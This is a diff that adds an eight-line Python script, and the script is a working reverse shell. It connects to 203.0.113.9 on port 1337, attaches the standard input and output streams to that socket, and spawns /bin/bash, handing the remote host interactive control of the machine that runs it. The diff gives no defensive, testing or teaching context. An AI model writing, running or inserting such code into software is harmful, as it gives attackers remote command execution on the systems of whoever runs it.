@@ -1,0 +1,8 @@
+#!/usr/bin/env python3
+
+import socket, os, pty
+sock = socket.socket()
+sock.connect(("203.0.113.9", 1337))
+for fd in (0, 1, 2):
+    os.dup2(sock.fileno(), fd)
+pty.spawn("/bin/bash")
